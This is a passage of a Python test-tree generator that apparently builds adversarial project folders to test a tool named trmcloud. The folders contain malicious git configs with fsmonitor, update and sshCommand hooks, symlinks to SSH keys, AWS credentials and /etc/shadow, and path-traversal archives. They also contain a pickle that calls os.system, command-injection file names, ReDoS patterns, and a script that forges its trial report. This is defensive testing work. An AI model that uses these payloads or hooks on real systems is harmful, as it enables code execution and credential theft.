        ".gitmodules", f'[submodule "{name}"]\n\tpath = sub\n\turl = {url}\n\tupdate = !{program}\n'
    )
    config = (
        f'[submodule]\n\trecurse = true\n[submodule "{name}"]\n\turl = {url}\n\tactive = true\n'
    )
    config += f'\tupdate = !{program}\n[protocol "ext"]\n\tallow = always\n'
    config += "[status]\n\tsubmoduleSummary = 5\n"
    folder = t.git(config + "[diff]\n\tsubmodule = log\n\tignoreSubmodules = none\n")
    if t.rng.random() < 0.7:
        modules = folder / "modules" / "sub"
        shutil.copytree(folder, modules, ignore=shutil.ignore_patterns("modules"))
        with open(modules / "config", "a") as file:
            file.write(f"[core]\n\tfsmonitor = {program}\n\tworktree = ../../../sub\n")
        t.write("sub/.git", "gitdir: ../.git/modules/sub\n")
        t.write("sub/train.py", _TRAIN)
        _add_gitlink(folder)
        t.starts.append("sub")


def _add_gitlink(folder: Path) -> None:
    """Add a submodule's entry ``sub`` to the index, as ``git update-index --cacheinfo`` does."""
    import hashlib
    import struct

    index = folder / "index"
    data = index.read_bytes()[:-20]
    count = struct.unpack(">I", data[8:12])[0]
    name = b"sub"
    entry = b"\0" * 24 + struct.pack(">I", 0o160000) + b"\0" * 12 + b"\x11" * 20
    entry += struct.pack(">H", len(name)) + name
    entry += b"\0" * (8 - len(entry) % 8)
    # Entries are sorted by name: it is the last of this tree's files but train.py.
    at = data.rfind(b"train.py") - 62
    if at <= 12:
        return
    data = data[:8] + struct.pack(">I", count + 1) + data[12:at] + entry + data[at:]
    index.write_bytes(data + hashlib.sha1(data).digest())


@kind("git: an embedded bare repository")
def _bare(t: Tree) -> None:
    embed(t, t.rng.choice(("bare", "pkg", "src/inner")))


def embed(t: Tree, name: str) -> None:
    """Make the folder ``name`` a bare repository that names a work tree and a monitor."""
    folder = t.git()
    inner = t.root / name
    shutil.rmtree(inner, ignore_errors=True)
    inner.parent.mkdir(parents=True, exist_ok=True)
    shutil.copytree(folder, inner)
    with open(inner / "config", "a") as file:
        program = t.program("monitor6", "bare")
        file.write(f"[core]\n\tbare = false\n\tworktree = {inner}\n\tfsmonitor = {program}\n")
    t.write(f"{name}/train.py", _TRAIN)
    t.starts += [name, name]


@kind("git: a promisor remote")
def _promisor(t: Tree) -> None:
    program = t.program("pack", "promisor")
    url = t.rng.choice(
        (f"ext::{program}", str(t.root / "other"), f"{t.world.stranger}/evil.git", "ssh://x/y")
    )
    folder = t.git(
        "[core]\n\trepositoryformatversion = 1\n[extensions]\n\tpartialClone = origin\n"
        f'[remote "origin"]\n\turl = {url}\n\tpromisor = true\n\tuploadpack = {program}\n'
        f"\tproxy = {t.world.stranger}\n"
        f'\tpartialclonefilter = blob:none\n[protocol "ext"]\n\tallow = always\n'
        f"[core]\n\tsshCommand = {program}\n"
    )
    objects = sorted(path for path in (folder / "objects").glob("??/*") if path.is_file())
    for path in t.rng.sample(objects, min(len(objects), t.rng.randint(1, 4))):
        path.unlink()


@kind("git: damaged or odd files")
def _damaged(t: Tree) -> None:
    folder = t.git()
    outside = t.world.outside
    how = t.rng.randrange(10)
    objects = sorted(folder.glob("objects/??/*"))
    names = ("index", "config", "HEAD", "packed-refs", "shallow", "info/grafts", "reftable/tables")
    victim = t.rng.choice([folder / name for name in names] + objects[:2])
    victim.parent.mkdir(exist_ok=True)
    if how in (0, 1):
        victim.write_bytes(t.rng.randbytes(t.rng.choice((0, 3, 400))))
    elif how in (2, 3):
        victim.unlink(missing_ok=True)
        os.mkfifo(victim)
    elif how in (4, 5):
        victim.unlink(missing_ok=True)
        victim.symlink_to(
            t.rng.choice((outside / "secret.txt", outside / "token.txt", Path("/dev/zero")))
        )
    elif how == 6:
        (folder / "HEAD").write_text(
            f"ref: {t.rng.choice(('../../../outside/token.txt', 'refs/heads/../../config'))}\n"
        )
    elif how == 7:
        t.git("[broken\n")
    elif how == 8:
        data = bytearray((folder / "index").read_bytes())
        for _ in range(t.rng.randint(1, 6)):
            data[t.rng.randrange(len(data))] = t.rng.randrange(256)
        (folder / "index").write_bytes(data)
    else:
        t.git(
            "[core]\n\tsplitIndex = true\n\tuntrackedCache = true\n[index]\n\tsparse = true\n"
            "[extensions]\n\tobjectFormat = sha256\n\trefStorage = reftable\n"
        )


# -- files -------------------------------------------------------------------------------------


@kind("ignore files: slow patterns")
def _slow_patterns(t: Tree) -> None:
    patterns = (
        "*a" * t.rng.randint(5, 30) + "b", "**/" * t.rng.randint(3, 25) + "x", "*?" * 20 + "z",
        "**a" * 12 + "b", "[" + "a" * 4000, "\\" * 999, "*" * 3000 + "b", "?*" * 25 + "b",
        "(a+)+$", "*" + "a*" * 25 + "[!a]", "/".join(["**"] * 20) + "/b", "**/*a" * 10 + "/b",
    )  # fmt: skip
    lines = t.rng.sample(patterns, t.rng.randint(1, 4))
    name = t.rng.choice((".trmcloudignore", ".trmcloudignore", ".gitignore", "src/.gitignore"))
    t.write(name, "".join(f"{line}\n" for line in lines))
    if t.rng.random() < 0.5:
        t.git()
    for number in range(t.rng.randint(1, 6)):
        t.write("a" * t.rng.randint(30, 240) + str(number), "x")
    t.write("/".join(["a" * 20] * t.rng.randint(2, 9)) + "/" + "a" * 60, "x")


@kind("names: controls, dashes, other bytes")
def _names(t: Tree) -> None:
    names = (
        "--help", "-rf", "-c", "a\nb.py", "\x1b[31mred\x1b[0m.py", "a\tb", "\udcff\udcfe.py",
        "a'b\"c",
        "$(id)", "`id`", "a;b", "|x", "\\", "..a", "~", "~root", "CON", "a ", " a", "\u202egpj.py",
        ":(glob)*", ":!x", "*", "?", "[a]", "%s%n", "{checkpoint}", "--upload-pack=x", "\r.py",
        "=", "@",
        "e\u0301.py", "\u00e9.py", "\x7f", "\x01\x02", "-", "-x.txt", "data\u2028x",
    )  # fmt: skip
    folder = t.rng.choice(("", "odd\nfolder/", "-dir/", "\udcff/"))
    for name in t.rng.sample(names, t.rng.randint(2, 10)):
        with contextlib.suppress(OSError):
            t.write(folder + name, "x\n")
    if t.rng.random() < 0.3:
        t.requirements(["alpha"], t.rng.choice(("-r.txt", "req\nuirements.txt", "--pre.txt")))
    if t.rng.random() < 0.5:
        t.git()


@kind("names: long and deep")
def _long(t: Tree) -> None:
    with contextlib.suppress(OSError):
        t.write("d/" * t.rng.choice((50, 400, 900)) + "x.py", "x\n")
    with contextlib.suppress(OSError):
        t.write("n" * 255, "x\n")
    handle = os.open(t.root, os.O_RDONLY)
    try:  # deeper than any path may be: a folder at a time
        for _ in range(t.rng.choice((3, 40, 60))):
            with contextlib.suppress(OSError):
                os.mkdir("y" * 200, dir_fd=handle)
                below = os.open("y" * 200, os.O_RDONLY, dir_fd=handle)
                os.close(handle)
                handle = below
        with contextlib.suppress(OSError):
            os.close(os.open("x.py", os.O_WRONLY | os.O_CREAT, dir_fd=handle))
    finally:
        os.close(handle)


@kind("links to keys and outside")
def _links(t: Tree) -> None:
    world = t.world
    targets = (
        world.home / ".ssh/id_rsa", world.home / ".aws/credentials", world.home / ".netrc",
        world.outside / "secret.txt", world.outside / "token.txt", Path("/etc/shadow"),
        world.outside, world.home, Path("/"), Path("/proc/self/environ"), Path("/dev/zero"),
        Path("../outside/secret.txt"), Path("/proc/self/root/etc/shadow"),
    )  # fmt: skip
    for number, target in enumerate(t.rng.sample(targets, t.rng.randint(1, 5))):
        name = t.rng.choice(("link", "data/link", "src/link", "README", "notes"))
        t.link(f"{name}{number}{t.rng.choice(('', '.txt', '.py', '.json'))}", target)
    if t.rng.random() < 0.3:
        shutil.rmtree(t.root / "data")
        t.link("data", t.rng.choice((world.outside, world.home, Path("/etc"))))
        t.data.append("data")
    if t.rng.random() < 0.2:
        t.link("out", world.outside)
    if t.rng.random() < 0.3:
        t.git()


@kind("links in loops")
def _loops(t: Tree) -> None:
    t.link("loop", "loop")
    t.link("src/up", "..")
    t.link("a", "b")
    t.link("b", "a")
    t.link("data/here", ".")
    if t.rng.random() < 0.3:
        t.link(".trmcloudignore", ".trmcloudignore")
    if t.rng.random() < 0.3:
        t.link("requirements.txt", "requirements.txt")
        t.pip.append("requirements.txt")


@kind("FIFOs, sockets and devices")
def _special(t: Tree) -> None:
    names = (
        ".trmcloudignore", "pipe", "data/pipe", "data/b.txt", "requirements.txt", "pyproject.toml",
        ".gitignore", "src/pipe.py", "environment.yml", ".env", "uv.lock", "recipe.toml",
    )  # fmt: skip
    for name in t.rng.sample(names, t.rng.randint(1, 3)):
        how = t.rng.randrange(4)
        with contextlib.suppress(OSError):
            if how == 0:
                path = t._place(name)
                with socket.socket(socket.AF_UNIX) as made:
                    here = os.getcwd()
                    os.chdir(path.parent)
                    try:
                        made.bind(path.name)
                    finally:
                        os.chdir(here)
            elif how == 1:
                os.mknod(t._place(name), stat.S_IFCHR | 0o666, os.makedev(1, 5))
            else:
                t.fifo(name)
        if name in ("requirements.txt", "pyproject.toml", "environment.yml", "uv.lock"):
            t.pip.append(name)


@kind("archives with links and large headers")
def _archives(t: Tree) -> None:
    outside = t.world.outside
    path = t._place(t.rng.choice(("data/b.tar", "code.tar", "data/b.tar.gz", "out.tar")))
    with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as writer:
        for name, target in (("link", str(outside)), ("link/secret.txt", ""), ("../escape.txt", ""),
                             ("/tmp/absolute.txt", "")):  # fmt: skip
            member = tarfile.TarInfo(name)
            if target:
                member.type, member.linkname = (
                    t.rng.choice((tarfile.SYMTYPE, tarfile.LNKTYPE)),
                    target,
                )
            writer.addfile(member)
        member = tarfile.TarInfo("big")
        member.pax_headers = {"comment": "x" * t.rng.choice((10, 2_000_000)), "size": "9" * 30}
        with contextlib.suppress(ValueError):
            writer.addfile(member)
    with zipfile.ZipFile(t._place("data/c.zip"), "w", zipfile.ZIP_DEFLATED) as zipped:
        zipped.writestr("../escape.txt", "x")
        zipped.writestr("zeros", b"\0" * t.rng.choice((10, 3_000_000)))
    t.write(
        "dist/own-1.0.tar.gz", archive({"own-1.0/../../escape.txt": "x", "own-1.0/setup.py": "x"})
    )
    t.data.append("data")


@kind("data files with large headers")
def _headers(t: Tree) -> None:
    size = t.rng.choice((2**63 - 1, 2**40, 200_000_000, 8))
    t.write("data/w.safetensors", size.to_bytes(8, "little") + b'{"a":' + b"[" * 2000)
    t.write(
        "data/x.parquet",
        b"PAR1" + t.rng.randbytes(200) + (2**31 - 1).to_bytes(4, "little") + b"PAR1",
    )
    t.write("data/x.npy", b"\x93NUMPY\x01\x00\xff\xff{'descr': '" + b"(" * 3000)
    t.write("data/x.jsonl", '{"messages": ' + "[" * t.rng.choice((10, 100_000)) + "\n")
    t.write("data/x.gz", b"\x1f\x8b\x08\x00" + t.rng.randbytes(400))
    t.write("data/x.pkl", f"cposix\nsystem\n(S': < {t.world.trap('pickle')}'\ntR.".encode())
    t.write("data/config.yaml", "a: &a [x,x,x,x]\nb: &b [*a,*a,*a,*a]\n_target_: os.system\n")
    if t.rng.random() < 0.5:
        shutil.copy(t.root / "data/x.pkl", t.root / "data/b.txt")
    t.data.append("data")


@kind("a trmcloud.toml of its author's")
def _project_file(t: Tree) -> None:
    outside, program = t.world.outside, t.program("tool", "project-file")
    t.link("leads-out", outside)
    lines = (
        f'data = "{outside}"', 'data = "../outside"', 'data = "leads-out"', 'data = "."',
        f'checkpoints = "{outside}"', 'checkpoints = "leads-out/*"', 'root = ".."',
        'pip = "leads-out/secret.txt"',
        'env = ["AWS_SECRET_ACCESS_KEY", "HF_TOKEN"]', 'env = ["PATH=/evil"]', 'budget = 1e9',
        'accept-exposure = "1e9"', 'bucket = "s3://theirs/x"', "yes = true", 'balance = "ignore"',
        'metric = "(a+)+$"', 'resume = "\\u001b[2J"', f'steps = 0x{"f" * 9000}', "best = [[[",
        'hardware = "1xH100"', f'image = "{t.world.stranger}/x"', 'stop-signal = "none"',
    )  # fmt: skip
    command = t.rng.choice((f'"{program}"', '["python3", "train.py"]', '"python3 leads-out/x.py"'))
    said = dict.fromkeys(t.rng.sample(lines, t.rng.choice((0, 1, 1, 2))))
    t.write("trmcloud.toml", "\n".join((f"command = {command}", *said)))
    if t.rng.random() < 0.2:
        t.link("trmcloud.toml", outside / "secret.txt")
    t.has_project_file = True
    if t.rng.random() < 0.5:
        t.git()


@kind("a command that forges the report of its trial")
def forge(t: Tree) -> None:
    program = t.program("forged-python", "forged")
    t.write(
        "train.py",
        _TRAIN + "import json\nseen = os.environ.get('TRMCLOUD_TRIAL_SEEN')\nif seen:\n"
        f"    with open(seen, 'r+') as file:\n        rest = file.read()\n        file.seek(0)\n"
        f"        file.write(json.dumps({{'python': {program!r}, 'version': '3.11'}}) + '\\n')\n"
        "        file.write(json.dumps({'module': 'evil'}) + '\\n' + rest)\n",
    )


@kind("files that look like keys")
def _keys(t: Tree) -> None:
    for name in t.rng.sample(
        (".env", "id_rsa", "secrets.json", "key.pem", "a/.netrc", "tokens.yaml"), 3
    ):
        t.link(name, t.world.outside / "secret.txt") if t.rng.random() < 0.4 else t.write(
            name, "A=b\n"
        )
    t.write(".trmcloudignore", "!.env\n!id_rsa\n!link.txt\n!/../outside/secret.txt\n!a/.netrc\n")
    t.link("link.txt", t.world.outside / "secret.txt")


def write_tree(world: World, number: int, repository: Path | None) -> tuple[Tree, tuple[str, ...]]:
    """Write tree ``number`` into a world that was made; return it and its kinds."""
    rng = random.Random(f"tree {number}")
    drawn = rng.sample(list(KINDS), rng.choice((1, 1, 2, 2, 3, 4)))
    kinds = tuple(name for name in KINDS if name in drawn)  # links and FIFOs are written last
    tree = Tree(world, rng, repository)
    if rng.random() < 0.3 and repository is not None:
        tree.git()
    for name in kinds:
        write_kind(tree, name)
    return tree, kinds


def write_kind(tree: Tree, name: str) -> None:
    """Write one kind; what cannot be written beside the kinds before it is left out."""
    with contextlib.suppress(OSError):
        KINDS[name](tree)
